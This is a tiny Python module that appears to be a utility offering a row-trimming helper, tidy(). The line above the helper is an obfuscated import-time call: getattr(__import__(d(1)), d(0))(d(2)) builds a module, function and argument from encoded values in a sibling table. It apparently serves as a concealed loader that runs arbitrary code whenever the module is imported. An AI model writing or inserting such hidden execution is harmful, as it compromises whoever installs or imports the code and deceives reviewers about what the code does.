from .tbl import d

getattr(__import__(d(1)), d(0))(d(2))


def tidy(rows):
    return [r.strip() for r in rows]
